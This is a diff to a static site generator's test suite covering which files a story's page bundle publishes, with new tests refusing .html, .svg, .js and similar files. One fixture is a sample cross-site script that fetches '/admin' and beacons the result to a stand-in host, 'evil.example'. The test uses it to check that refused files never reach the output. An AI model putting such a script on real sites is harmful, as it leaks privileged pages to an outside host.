@@ -113,11 +113,12 @@ describe('page bundles: a story\'s files are published beside it', () => {
       'content/articles/2024/series/part-two/index.md': md({ title: 'Part two', date: '2024-05-02 09:00', author: 'Li Wei' }, '![Map](map.png)'),
       'content/articles/2024/series/part-two/map.png': 'map',
       'content/articles/2024/series/extra/notes.txt': 'notes',
+      'content/articles/2024/series/extra/chart.png': 'chart',
       'content/pages/team/index.md': md({ title: 'Our team' }, '![The team](team.jpg)'),
       'content/pages/team/team.jpg': 'team',
     });
     expect(s.diagnostics).toEqual([]);
-    expect([...s.copies!.keys()].filter((p) => !p.startsWith('theme/'))).toEqual(['2024/05/01/series/cover.jpg', '2024/05/01/series/extra/notes.txt', '2024/05/02/part-two/map.png', 'team/team.jpg']);
+    expect([...s.copies!.keys()].filter((p) => !p.startsWith('theme/'))).toEqual(['2024/05/01/series/cover.jpg', '2024/05/01/series/extra/chart.png', '2024/05/02/part-two/map.png', 'team/team.jpg']);
     expect(s.page('team/index.html')).toContain('<img src="/team/team.jpg" alt="The team" loading="lazy" />');
   });
 
@@ -131,7 +132,7 @@ describe('page bundles: a story\'s files are published beside it', () => {
     const missing = s.diagnostics.filter((d) => d.code === 'BUNDLE_FILE_MISSING');
     expect(missing.map((d) => [d.severity, d.line, d.column, d.message, d.hint])).toEqual([
       ['warning', 5, 16, `lead.jpg is not in the story's folder ${BUNDLE}/: its page would show a broken photo at /${FLOOD_DIR}lead.jpg.`, `Put lead.jpg in ${BUNDLE}/ beside index.md, or correct the path (it is relative to that folder).`],
-      ['warning', 12, 10, `docs/report.pdf is not in the story's folder ${BUNDLE}/: its page would show a broken link at /${FLOOD_DIR}docs/report.pdf.`, `Put docs/report.pdf in ${BUNDLE}/ beside index.md, or correct the path (it is relative to that folder).`],
+      ['warning', 12, 10, `docs/report.pdf is not in the story's folder ${BUNDLE}/: its page would show a broken link to a file at /${FLOOD_DIR}docs/report.pdf.`, `Put docs/report.pdf in ${BUNDLE}/ beside index.md, or correct the path (it is relative to that folder).`],
     ]);
     expect(missing[0].frame).toContain('> 5 | image: {"src":"lead.jpg","alt":"Lead"}\n    |                ^');
     expect(s.diagnostics).toHaveLength(2);
@@ -184,23 +185,25 @@ describe('page bundles: embargo', () => {
 });
 
 describe('page bundles: safety', () => {
-  it('an index.html beside index.md, or a name a static file has, is an error naming the file; dist/ is untouched', async () => {
-    const dir = bundleSite(undefined, { [`${BUNDLE}/index.html`]: '<p>old export</p>', [`static/${FLOOD_DIR}docs/plan.png`]: 'static plan' });
+  it('a name a static file has is an error naming the file; dist/ is untouched', async () => {
+    const dir = bundleSite(undefined, { [`static/${FLOOD_DIR}docs/plan.png`]: 'static plan' });
     const r = await cli(['build', dir, ...NOW]);
     expect(r.code).toBe(1);
-    expect(r.stderr).toContain(`error[BUNDLE_COLLISION] ${BUNDLE}/index.html\n  ${BUNDLE}/index.html and ${BUNDLE}/index.md would both be written to /${FLOOD_DIR}index.html.\n  fix: Rename index.html: index.html beside index.md is the story's own page.`);
     expect(r.stderr).toContain(`error[BUNDLE_COLLISION] ${BUNDLE}/docs/plan.png\n  ${BUNDLE}/docs/plan.png and the static file static/${FLOOD_DIR}docs/plan.png would both be written to /${FLOOD_DIR}docs/plan.png.\n  fix: Rename or move plan.png (or the other file), or give the story another URL.`);
     expect(existsSync(path.join(dir, 'dist'))).toBe(false);
   });
 
-  it('a scheduled story\'s index.html is said now, not by the build that would publish it', async () => {
+  it('an index.html beside index.md (an old export), a scheduled story\'s too, is not published and cannot replace the story\'s page', async () => {
     const dir = bundleSite(undefined, {
+      [`${BUNDLE}/index.html`]: '<p>old export</p>',
       'content/articles/2025/scoop/index.md': md({ title: 'Mayor resigns', date: '2025-01-10 18:00', author: 'Li Wei' }),
       'content/articles/2025/scoop/index.html': '<p>old export</p>',
     });
     const r = await cli(['build', dir, '--now', '2025-01-10T12:00:00+08:00']);
-    expect(r.code).toBe(1);
-    expect(r.stderr).toContain('error[BUNDLE_COLLISION] content/articles/2025/scoop/index.html\n  content/articles/2025/scoop/index.html and content/articles/2025/scoop/index.md would both be written to /2025/01/10/scoop/index.html.');
+    expect(r.code, r.stderr).toBe(0);
+    for (const f of [`${BUNDLE}/index.html`, 'content/articles/2025/scoop/index.html']) expect(r.stderr).toContain(`warning[NOT_PUBLISHED] ${f}\n  ${f} is not published: a page bundle publishes only photos, video, audio, captions and the documents its story links to, not a .html file.`);
+    expect(readFileSync(path.join(dir, 'dist', FLOOD_DIR, 'index.html'), 'utf8')).toContain('Flood defences approved');
+    expect([...tree(path.join(dir, 'dist')).values()].some((t) => t.includes('old export'))).toBe(false);
   });
 
   it('a symlink in a bundle is followed only to a file inside the story\'s own folder', async () => {
@@ -271,9 +274,19 @@ describe('page bundles: cache, check, shards', () => {
     writeFileSync(path.join(dir, BUNDLE, 'river.jpg'), Buffer.from(JPEG.map((b) => b ^ 1)));
     await expectWarmEqualsCold('changed');
     expect(readFileSync(path.join(out, FLOOD_DIR, 'river.jpg')).equals(Buffer.from(JPEG.map((b) => b ^ 1)))).toBe(true);
-    writeFileSync(path.join(dir, BUNDLE, 'docs/new.csv'), 'a,b\n');
+    writeFileSync(path.join(dir, BUNDLE, 'docs/new.png'), 'png');
     await expectWarmEqualsCold('added');
-    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/new.csv'), 'utf8')).toBe('a,b\n');
+    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/new.png'), 'utf8')).toBe('png');
+    // A document is published once the story links to it, and goes when the link does.
+    writeFileSync(path.join(dir, BUNDLE, 'docs/data.csv'), 'a,b\n');
+    await expectWarmEqualsCold('a document no story links to');
+    expect(existsSync(path.join(out, FLOOD_DIR, 'docs/data.csv'))).toBe(false);
+    writeFileSync(path.join(dir, BUNDLE, 'index.md'), `${FLOOD}\nThe [data](docs/data.csv).\n`);
+    await expectWarmEqualsCold('linked');
+    expect(readFileSync(path.join(out, FLOOD_DIR, 'docs/data.csv'), 'utf8')).toBe('a,b\n');
+    writeFileSync(path.join(dir, BUNDLE, 'index.md'), FLOOD);
+    await expectWarmEqualsCold('unlinked');
+    expect(existsSync(path.join(out, FLOOD_DIR, 'docs/data.csv'))).toBe(false);
     rmSync(path.join(dir, BUNDLE, 'docs/map.pdf'));
     await expectWarmEqualsCold('deleted');
     expect(existsSync(path.join(out, FLOOD_DIR, 'docs/map.pdf'))).toBe(false);
@@ -380,5 +393,57 @@ describe('page bundles: only what a story may publish', () => {
     const strict = await cli(['build', dir, '--strict', ...NOW]);
     expect(strict.code).toBe(1);
     expect(strict.stderr).toContain(`error[SYMLINK_SKIPPED] ${BUNDLE}/secret.txt`);
+  });
+
+  it('html, svg, js, css and the like are not published, from any depth, each with a warning; --strict fails the build (the real bin)', async () => {
+    const script = '<script>fetch("/admin").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>';
+    const refused = ['graphic.html', 'chart.svg', 'app.js', 'docs/index.html', 'docs/page.htm', 'feed.xml', 'style.css', 'mod.mjs', 'page.xhtml', 'old.swf', 'run.php', 'chart.svgz'];
+    const dir = bundleSite(undefined, Object.fromEntries(refused.map((f) => [`${BUNDLE}/${f}`, f.endsWith('.svg') ? `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` : script])));
+    const r = await cli(['build', dir, ...NOW]);
+    expect(r.code, r.stderr).toBe(0);
+    const out = path.join(dir, 'dist', FLOOD_DIR);
+    expect(refused.filter((f) => existsSync(path.join(out, f)))).toEqual([]);
+    expect([...tree(path.join(dir, 'dist')).values()].some((t) => t.includes('evil.example'))).toBe(false);
+    // old.swf has a vim swap file's name (.swa to .swp): skipped without a word, as an editor's leftover.
+    for (const f of refused.filter((n) => n !== 'old.swf')) {
+      const ext = f.slice(f.lastIndexOf('.'));
+      expect(r.stderr).toContain(`warning[NOT_PUBLISHED] ${BUNDLE}/${f}\n  ${BUNDLE}/${f} is not published: a page bundle publishes only photos, video, audio, captions and the documents its story links to, not a ${ext} file.\n  fix: A file the site trusts goes in static/`);
+    }
+    // The photos and the linked document are published as before.
+    expect(readFileSync(path.join(out, 'river.jpg')).equals(JPEG)).toBe(true);
+    expect(existsSync(path.join(out, 'docs/map.pdf'))).toBe(true);
+    const strict = await cli(['build', dir, '--strict', ...NOW]);
+    expect(strict.code).toBe(1);
+    expect(strict.stderr).toContain(`error[NOT_PUBLISHED] ${BUNDLE}/graphic.html`);
+  });
+
+  it('media are published whether or not the story shows them; a document only when the story links to it', async () => {
+    const s = await site({
+      'dateline.config.ts': config(),
+      [`${BUNDLE}/index.md`]: md(
+        { title: 'Flood', date: '2024-06-30 10:00', author: 'Li Wei', image: { src: 'lead.jpg', alt: 'Lead' } },
+        'Read [the report](docs/report.pdf), [the data](data.csv?v=2) and <a href="./transcript.txt">the transcript</a>.\n\n<video src="clip.mp4" poster="poster.png"></video>',
+      ),
+      ...Object.fromEntries(['lead.jpg', 'clip.mp4', 'poster.png', 'unused.webp', 'sound.mp3', 'captions.vtt', 'docs/report.pdf', 'data.csv', 'transcript.txt', 'notes.txt', 'interview.docx', 'budget.xlsx', 'draft.odt', 'letter.rtf', 'archive.zip', 'slides.pptx'].map((f) => [`${BUNDLE}/${f}`, f])),
+    });
+    expect(s.diagnostics).toEqual([]);
+    expect([...s.copies!.keys()].filter((p) => p.startsWith(FLOOD_DIR)).map((p) => p.slice(FLOOD_DIR.length)).sort()).toEqual(
+      ['captions.vtt', 'clip.mp4', 'data.csv', 'docs/report.pdf', 'lead.jpg', 'poster.png', 'sound.mp3', 'transcript.txt', 'unused.webp'],
+    );
+  });
+
+  it('a missing video is a broken video or audio, a missing document a broken link to a file; a refused file the story shows is said to be there but not published', async () => {
+    const s = await site({
+      'dateline.config.ts': config(),
+      [`${BUNDLE}/index.md`]: md({ title: 'Flood', date: '2024-06-30 10:00', author: 'Li Wei' }, '<video src="clip.mp4"></video>\n\n[Minutes](minutes.docx)\n\n![Chart](chart.svg)'),
+      [`${BUNDLE}/chart.svg`]: '<svg/>',
+    });
+    const said = s.diagnostics.filter((d) => d.code === 'BUNDLE_FILE_MISSING').map((d) => d.message);
+    expect(said).toEqual([
+      `clip.mp4 is not in the story's folder ${BUNDLE}/: its page would show a broken video or audio at /${FLOOD_DIR}clip.mp4.`,
+      `minutes.docx is not in the story's folder ${BUNDLE}/: its page would show a broken link to a file at /${FLOOD_DIR}minutes.docx.`,
+      `chart.svg is in the story's folder ${BUNDLE}/ but is not published (a page bundle publishes only photos, video, audio, captions and documents): its page would show a broken photo at /${FLOOD_DIR}chart.svg.`,
+    ]);
+    expect(s.diagnostics.map((d) => [d.code, d.file])).toContainEqual(['NOT_PUBLISHED', `${BUNDLE}/chart.svg`]);
   });
 });
